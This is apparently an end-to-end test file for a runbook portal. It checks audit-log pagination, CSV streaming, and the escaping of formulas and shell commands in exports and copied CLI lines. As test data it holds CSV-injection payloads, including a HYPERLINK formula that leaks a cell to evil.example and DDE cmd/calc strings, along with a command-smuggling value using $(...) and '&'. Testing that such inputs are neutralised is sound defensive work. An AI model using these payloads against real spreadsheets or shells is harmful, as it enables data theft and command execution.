import { spawn, execFileSync } from 'node:child_process';
import { mkdtempSync, readdirSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test, expect, open, hydrated } from './fixtures';
import { addUser, clientAs, signIn } from './people';
import { parseCsv } from './csv';
import { emulatorEndpoint, tester } from '../playwright.config';

const bin = process.env.PORTAL_BIN ?? '../target/release/runbook-portal';
const PASSWORD = 'an exported password';
const port = Number(process.env.PORTAL_PORT ?? 3100) + 50;

/** A POST of a form from a given loopback address (each its own client to the throttle). */
function postForm(url: string, form: Record<string, string>, localAddress: string, headers: Record<string, string> = {}) {
  const body = new URLSearchParams(form).toString();
  return new Promise<{ status: number; cookie: string }>((resolve, reject) => {
    const sent = httpRequest(
      url,
      { method: 'POST', localAddress, headers: { 'content-type': 'application/x-www-form-urlencoded', 'content-length': Buffer.byteLength(body), ...headers } },
      (answer) => {
        answer.resume();
        answer.on('end', () => resolve({ status: answer.statusCode ?? 0, cookie: (answer.headers['set-cookie'] ?? [''])[0].split(';')[0] }));
      },
    );
    sent.on('error', reject);
    sent.end(body);
  });
}

test('formulas written into the audit trail come out of /audit.csv as text', async ({ page }) => {
  test.skip(!hydrated(page), 'about the server: once is enough');
  test.setTimeout(60_000);
  // A portal of its own: each failed sign-in below is the first from its address, so each is
  // written to the trail as it is (later ones of a window go into a summary).
  const data = mkdtempSync(join(tmpdir(), 'runbook-portal-export-'));
  execFileSync(bin, ['users', 'add', 'exporter', '--group', 'admins', '--password-stdin', '--data-dir', data], { input: `${PASSWORD}\n` });
  const base = `http://127.0.0.1:${port}`;
  const portal = spawn(bin, ['serve', '--listen', `127.0.0.1:${port}`, '--data-dir', data, '--emulator-url', emulatorEndpoint], { stdio: 'ignore' });
  const exited = new Promise((resolve) => portal.on('exit', resolve));
  try {
    await expect.poll(() => fetch(`${base}/healthz`).then((r) => r.status, () => 0), { timeout: 20_000 }).toBe(200);
    const hyperlink = '=HYPERLINK("https://evil.example/?"&A2,"x")';
    const formulas = [hyperlink, "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '\t=1+1', '\r=1+1'];
    for (const [i, name] of formulas.entries()) {
      const failed = await postForm(`${base}/session`, { name, password: 'not the password', next: '/' }, `127.0.0.${11 + i}`);
      expect(failed.status).toBe(303);
    }
    // The user agent of a sign-in is recorded too.
    const agent = '=HYPERLINK("https://evil.example/","user agent")';
    const { cookie } = await postForm(`${base}/session`, { name: 'exporter', password: PASSWORD, next: '/automation' }, '127.0.0.20', { 'user-agent': agent });

    const answer = await fetch(`${base}/audit.csv`, { headers: { cookie } });
    expect(answer.status).toBe(200);
    const text = await answer.text();
    const records = parseCsv(text);
    // No cell begins as a formula; every one that did now begins with a quote.
    const cells = records.flatMap((r) => Object.values(r));
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(records.map((r) => r.user)).toContain(`'${hyperlink}`);
    expect(records.find((r) => r.action === 'sign-in')?.user_agent).toBe(`'${agent}`);
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A2,""x"")"`);
    for (const name of formulas.slice(1, 4)) expect(records.map((r) => r.user)).toContain(`'${name}`);
  } finally {
    portal.kill('SIGTERM');
    await exited;
  }
});

// Sessions of their own: the browser signs in as the tester in each test.
test.use({ storageState: { cookies: [], origins: [] } });

async function signInAsTester(page: Parameters<typeof open>[0]) {
  await page.goto('/login?next=%2Fautomation');
  await signIn(page, tester.name, tester.password);
  await expect(page).toHaveURL(/\/automation$/);
}

/** `count` refused requests by `name` (each writes one record), and their ids, newest first. */
async function refusals(name: string, count: number): Promise<string[]> {
  addUser(name, PASSWORD, ['visitors']);
  const visitor = await clientAs(name, PASSWORD);
  for (let i = 0; i < count; i += 15) {
    const batch = Array.from({ length: Math.min(15, count - i) }, () => visitor.get('/audit.csv'));
    for (const answer of await Promise.all(batch)) expect(answer.status()).toBe(403);
  }
  const admin = await clientAs(tester.name, tester.password);
  const listed = async () => parseCsv(await (await admin.get(`/audit.csv?user=${name}&action=refused`)).text()).map((r) => r.id);
  // Refusals are written without holding up the answer: give them a moment.
  await expect.poll(async () => (await listed()).length).toBe(count);
  return listed();
}

test('the audit page shows a page at a time, with Previous and Next by record id', async ({ page }, info) => {
  test.setTimeout(60_000);
  const name = `pager-${info.project.name}`;
  const ids = await refusals(name, 105);
  const shown = () => page.locator('tr[data-audit]').evaluateAll((rows) => rows.map((r) => r.getAttribute('data-audit')));
  const rows = page.locator('tr[data-audit]');
  const previous = page.getByRole('link', { name: 'Previous page' });
  const next = page.getByRole('link', { name: 'Next page' });

  await signInAsTester(page);
  await open(page, `/audit?user=${name}&action=refused`);
  await expect(rows).toHaveCount(100);
  expect(await shown()).toEqual(ids.slice(0, 100));
  await expect(previous).toHaveCount(0);
  await next.click();
  await expect(page).toHaveURL(new RegExp(`/audit\\?user=${name}&action=refused&before=${ids[99]}$`));
  await expect(rows).toHaveCount(5);
  expect(await shown()).toEqual(ids.slice(100));
  await expect(next).toHaveCount(0);
  // The filters stay on every page, and so does the export's link.
  await expect(page.getByLabel('User', { exact: true })).toHaveValue(name);
  await previous.click();
  await expect(page).toHaveURL(new RegExp(`after=${ids[100]}$`));
  await expect(rows).toHaveCount(100);
  expect(await shown()).toEqual(ids.slice(0, 100));
  await expect(previous).toHaveCount(0);
  await expect(next).toHaveCount(1);
});

test('the CSV export is streamed, and a download continues from before=', async ({ page }) => {
  test.skip(!hydrated(page), 'about the server: once is enough');
  const name = 'export-streamer';
  const ids = await refusals(name, 30);
  const admin = await clientAs(tester.name, tester.password);
  const answer = await admin.get(`/audit.csv?user=${name}&action=refused`);
  // Sent as it is read, in chunks: no length known in advance.
  expect(answer.headers()['transfer-encoding']).toBe('chunked');
  expect(answer.headers()['content-length']).toBeUndefined();
  expect(parseCsv(await answer.text()).map((r) => r.id)).toEqual(ids);
  const older = await admin.get(`/audit.csv?user=${name}&action=refused&before=${ids[9]}`);
  expect(parseCsv(await older.text()).map((r) => r.id)).toEqual(ids.slice(10));
});

test('a shared link cannot make the CLI equivalent run anything else', async ({ page }) => {
  const value = `x' & calc & \u201C\u2019; touch canary; \u2018 $(touch canary) %PATH% "q"`;
  const query = new URLSearchParams({ 'p.InstanceId': 'i-1234567890abcdef0', tags: `Owner=${value}` });
  await signInAsTester(page);
  await open(page, `/automation/execute/AWS-RestartEC2Instance?${query}`);
  const command = async (shell: 'unix' | 'windows' | 'powershell', tab: string) => {
    if (!hydrated(page)) return (await page.locator(`section[data-shell="${shell}"] pre`).first().textContent())!;
    await page.getByRole('tab', { name: tab }).click();
    const code = page.locator('code[data-command="start"]');
    await expect(code).toContainText(shell === 'powershell' ? 'Start-SSMAutomationExecution' : shell === 'windows' ? 'cmd.exe' : 'aws ssm');
    return (await code.textContent())!;
  };

  // bash runs it: `aws` prints what it was given; nothing else runs.
  const unix = await command('unix', 'Linux & macOS');
  const dir = mkdtempSync(join(tmpdir(), 'runbook-portal-paste-'));
  const out = execFileSync('bash', ['--norc', '-c', `aws() { printf '%s\\0' "$@"; }\n${unix}`], { cwd: dir, encoding: 'utf8' });
  const argv = out.split('\0').slice(0, -1);
  expect(JSON.parse(argv[argv.indexOf('--tags') + 1])).toEqual([{ Key: 'Owner', Value: value }]);
  expect(readdirSync(dir)).toEqual([]);

  // cmd.exe expands %PATH% inside quotes too: the line is refused, with what to do instead.
  const windows = await command('windows', 'Windows');
  expect(windows).toMatch(/^REM This command cannot be written safely for cmd\.exe: .*Use the PowerShell command/);
  expect(windows).not.toContain('calc');

  // PowerShell: one single-quoted string, its quotes (typographic ones too) doubled.
  const powershell = await command('powershell', 'PowerShell');
  expect(powershell).toContain(`-Tag @{Key="Owner";Value='x'' & calc & \u201C\u2019\u2019; touch canary; \u2018\u2018 $(touch canary) %PATH% "q"'}`);
});
